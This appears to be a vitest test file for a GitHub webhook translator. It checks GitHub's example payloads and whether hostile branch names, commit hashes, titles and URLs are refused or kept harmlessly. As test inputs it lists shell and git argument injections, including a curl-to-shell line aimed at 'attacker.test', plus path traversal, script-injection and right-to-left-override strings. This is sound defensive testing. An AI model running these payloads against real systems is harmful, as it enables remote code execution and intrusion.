// What GitHub's deliveries say in our words: its own examples, and hostile payloads.
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'
import { expect, test } from 'vitest'
import { commit, pullRequest, push } from '../../../test/git-host-events.ts'
import { fieldOf } from '../../domain/repository/reported-values.ts'
import { github } from './github.ts'
import { Unused } from './webhook-dialect.ts'

/** The events, or the reason why there are none. */
function say(event: string, payload: unknown) {
  try {
    return github.translate(event, payload).events
  } catch (error) {
    if (error instanceof Unused) return error.reason
    throw error
  }
}

type Definition = { readonly name: string; readonly examples: readonly unknown[] }

/** Of github.com, and of GitHub Enterprise in several versions. */
const require = createRequire(import.meta.url)
const folder = dirname(require.resolve('@octokit/webhooks-examples/package.json'))
const examples = ['api.github.com', 'ghes-31', 'ghes-32', 'ghes-33', 'ghes-34', 'ghes-35'].flatMap(
  (version): Definition[] => JSON.parse(readFileSync(join(folder, version, 'index.json'), 'utf8')),
)

const examplesOf = (name: string): readonly unknown[] =>
  examples.filter((definition) => definition.name === name).flatMap((definition) => [...definition.examples])

test.each(examplesOf('pull_request').map((example, index) => [index, example] as const))(
  "GitHub's example %i of a pull request",
  (_, example) => {
    const { action } = example as { action: string }
    const expected: Record<string, string> = {
      opened: 'opened',
      reopened: 'reopened',
      synchronize: 'updated',
      ready_for_review: 'ready_for_review',
      converted_to_draft: 'converted_to_draft',
      labeled: 'labelled',
      unlabeled: 'unlabelled',
      edited: 'updated',
      closed: 'closed',
    }
    const said = say('pull_request', example)
    if (expected[action] === undefined) return expect(said).toBe('action_not_used')
    expect(said).toEqual([
      {
        kind: 'pull_request',
        action: expected[action],
        pullRequest: {
          number: 2,
          title: 'Update the README with new information.',
          url: expect.stringMatching(/Codertocat\/Hello-World\/pull\/2$/),
          author: 'Codertocat',
          branch: 'changes',
          headSha: expect.stringMatching(
            /^(ec26c3e57ca3a959ca5aad62de7213c562f8c821|14977a7b5485400124827221a04bfb474bcd72d1)$/,
          ),
          headRepository: 'Codertocat/Hello-World',
          isFork: false,
          isDraft: fieldOf(example, 'pull_request', 'draft') ?? false,
          targetBranch: 'master',
          labels: expect.any(Array),
          isBot: false,
          updatedAt: expect.any(Number),
        },
      },
    ])
  },
)

test.each(examplesOf('push').map((example, index) => [index, example] as const))(
  "GitHub's example %i of a push",
  (_, example) => {
    const { ref } = example as { ref: string }
    if (ref.startsWith('refs/tags/')) return expect(say('push', example)).toBe('not_a_branch')
    expect(say('push', example)).toMatchObject([
      { kind: 'push', branch: 'master', sha: '6113728f27ae82c7b1a177c8d03f9e96e0adf246', isDeleted: false },
    ])
  },
)

test('every other event of GitHub is of no use', () => {
  const used = ['push', 'pull_request', 'ping', 'check_run', 'check_suite', 'status']
  const others = examples.filter(({ name }) => !used.includes(name))
  expect(others.length).toBeGreaterThan(40)
  for (const { name, examples: payloads } of others) {
    for (const payload of payloads) expect(say(name, payload), name).toBe('event_not_used')
  }
})

test.each(
  ['check_run', 'check_suite'].flatMap((event) =>
    examplesOf(event).map((example, index) => [event, index, example] as const),
  ),
)("GitHub's example of %s %i", (event, _, example) => {
  const { action } = example as { action: string }
  const sha = expect.stringMatching(/^[0-9a-f]{40}$/)
  const changed = [{ kind: 'checks_changed', sha }]
  const which = event === 'check_run' ? { hostId: expect.stringMatching(/^[0-9]+$/) } : { sha }
  const asked = [{ kind: 'check_request', action: 'redeploy', which, sender: expect.any(String) }]
  const expected: Record<string, unknown> = {
    created: changed,
    completed: changed,
    rerequested: asked,
    // Their buttons are those of other Apps.
    requested_action: 'action_not_used',
  }
  expect(say(event, example)).toEqual(expected[action] ?? 'action_not_used')
})

test("GitHub's examples of commit statuses say that checks have changed", () => {
  expect(examplesOf('status').length).toBeGreaterThan(0)
  for (const example of examplesOf('status'))
    expect(say('status', example)).toEqual([{ kind: 'checks_changed', sha: expect.stringMatching(/^[0-9a-f]{40}$/) }])
})

test.each([{}, null, [], { sha: 5 }, { sha: 'x' }, { sha: '0'.repeat(40) }])(
  'a status of %j is of no use',
  (payload) => {
    expect(say('status', payload)).toMatch(/^(incomplete_payload|invalid_commit)$/)
  },
)

test("GitHub's ping is recognised", () => {
  expect(examplesOf('ping').length).toBeGreaterThan(0)
  for (const example of examplesOf('ping')) expect(say('ping', example)).toEqual([{ kind: 'ping' }])
})

/** Each of these once dropped the delivery. */
const otherwise: readonly (readonly [string, object])[] = [
  ['a time that is a number', { updated_at: 1767323045000 }],
  ['no time', { updated_at: null }],
  ['a time that is none', { updated_at: 'soon' }],
  ['a title that is a number', { title: 7 }],
  ['an author that is a text', { user: 'ada' }],
  ['an address that is an object', { html_url: { href: 'x' } }],
  ['a target without a branch', { base: { ref: null, repo: { id: 1 } } }],
  ['a word for whether it is a draft', { draft: 'no' }],
]
test.each(otherwise)('a pull request with %s is one all the same', (_, fields) => {
  const payload = pullRequest('opened')
  const altered = { ...payload, pull_request: { ...payload.pull_request, ...fields } }
  expect(say('pull_request', altered)).toMatchObject([{ action: 'opened', pullRequest: { number: 7, isFork: false } }])
})

test.each([
  ['no commit', { head: { ref: 'feature', sha: null, repo: null } }],
  ['a branch that is none', { head: { ref: 'a..b', sha: commit('a'), repo: null } }],
  ['nothing of its branch', { head: null, base: null, updated_at: null, user: null }],
])('an end needs its number alone: %s', (_, fields) => {
  const payload = pullRequest('closed')
  const altered = { ...payload, pull_request: { ...payload.pull_request, ...fields } }
  expect(say('pull_request', altered)).toMatchObject([{ action: 'closed', pullRequest: { number: 7 } }])
})

test('a merged pull request is distinguished from one that was only closed', () => {
  expect(say('pull_request', pullRequest('closed', { isMerged: true }))).toMatchObject([{ action: 'merged' }])
  expect(say('pull_request', pullRequest('closed'))).toMatchObject([{ action: 'closed' }])
})

test('another target is distinguished from another title', () => {
  const base = { changes: { base: { ref: { from: 'develop' } } } }
  expect(say('pull_request', pullRequest('edited', { more: base }))).toMatchObject([{ action: 'retargeted' }])
  const title = { changes: { title: { from: 'Before' } } }
  expect(say('pull_request', pullRequest('edited', { more: title }))).toMatchObject([{ action: 'updated' }])
})

test('a forced push, a deletion and a commit to skip are recognised', () => {
  const forced = push({ before: commit('a'), after: commit('b'), forced: true, message: 'x [no ci]' })
  expect(say('push', forced)).toMatchObject([
    { isForced: true, isSkipped: true, isDeleted: false, before: commit('a') },
  ])
  expect(say('push', push({ before: commit('a'), after: '0'.repeat(40) }))).toMatchObject([{ isDeleted: true }])
})

const literal = [
  ...['main$(id)', 'main`id`', 'main${IFS}id', 'main|id', 'main&&id', 'main<x', "main'id", 'main"id', 'main#id'],
  ...['main%0aid', '<script>alert(1)</script>', "{{constructor.constructor('return(1)')()}}", 'feat/#123'],
  ...['ümlaut/日本語', 'rtl\u202egnp.exe', 'refs/heads/main', '@', 'main$(curl${IFS}attacker.test|sh)'],
]
test.each(literal)('the branch %s is taken as it is', (branch) => {
  expect(say('push', push({ branch, after: commit('a') }))).toMatchObject([{ branch }])
  expect(say('pull_request', pullRequest('opened', { branch }))).toMatchObject([{ pullRequest: { branch } }])
})

const refused = [
  ...['--upload-pack=touch${IFS}$CANARY', '-oProxyCommand=touch $CANARY', '--exec=sh', '', 'main branch', 'a..b'],
  ...['.hidden', 'main:id', 'main?x', 'main*x', 'main[x', 'main\\id', 'main\0x', 'main\nid', 'main\rid'],
  ...['main\u001b[2J', '../../etc/passwd', '/abs', 'end/', '@{-1}'],
]
test.each(refused)('the branch %j is no branch', (branch) => {
  expect(say('push', push({ branch, after: commit('a') }))).toBe('invalid_ref')
  expect(say('pull_request', pullRequest('opened', { branch }))).toBe('invalid_ref')
})

test.each(['HEAD$(id)', '--upload-pack=x', 'a'.repeat(39), 'a'.repeat(41), `${'A'.repeat(40)};id`, 'main', ''])(
  'the commit %j is no commit',
  (sha) => {
    expect(say('push', push({ after: sha }))).toBe('invalid_commit')
    expect(say('pull_request', pullRequest('opened', { sha }))).toBe('invalid_commit')
  },
)

test.each([
  [0],
  [-1],
  [1.5],
  [1e21],
  [2 ** 53 + 2],
  [2147483648],
  ['1'],
  ['01'],
  ['00001'],
  ['1\n2'],
  ['０１'],
  [[]],
  [[7]],
  [{}],
  [true],
  [null],
  ['7; id'],
  ['../7'],
])('the number %j is no number of a pull request', (number) => {
  expect(say('pull_request', { ...pullRequest('opened'), number })).toBe('invalid_number')
})

test.each([
  ['no repository', null],
  ['no id', {}],
  ['another id', { id: 2 }],
  ['another id, by any author', { id: 2, author_association: 'OWNER' }],
  ['another id, which says that it is no fork', { id: 2, fork: false }],
  ['an id that is no number', { id: '1' }],
])('a head with %s is a stranger', (_, headRepository) => {
  expect(say('pull_request', pullRequest('opened', { headRepository }))).toMatchObject([
    { pullRequest: { isFork: true } },
  ])
})

test('a head with the same id is no stranger, however its name is written', () => {
  const headRepository = { id: 1, full_name: 'Acme/App' }
  expect(say('pull_request', pullRequest('opened', { headRepository }))).toMatchObject([
    { pullRequest: { isFork: false } },
  ])
})

test.each([
  [null],
  ['x'],
  [7],
  [[]],
  [{}],
  [{ ref: 1 }],
  [{ refUpdates: [] }],
  [{ pull_request: null, action: 'opened' }],
  [{ action: 'opened', number: 1 }],
  [{ ref: '\ud800' }],
])('%j is not complete', (payload) => {
  expect(say('push', payload)).toBe('incomplete_payload')
  expect(say('pull_request', payload)).toBe('incomplete_payload')
})

test.each([
  ['<script>alert(1)</script>', '<script>alert(1)</script>'],
  ['\u202e\u2066evil', 'evil'],
  ['\0x', 'x'],
  ['two\nlines', 'two lines'],
  ['x'.repeat(500), 'x'.repeat(200)],
])('the title %j can be stored and shown', (title, shown) => {
  expect(say('pull_request', pullRequest('opened', { title }))).toMatchObject([{ pullRequest: { title: shown } }])
})

test('an address that is none for a browser is left out', () => {
  const payload = pullRequest('opened')
  const html_url = 'javascript:alert(1)'
  const altered = { ...payload, pull_request: { ...payload.pull_request, html_url } }
  expect(say('pull_request', altered)).toMatchObject([{ pullRequest: { url: null } }])
})
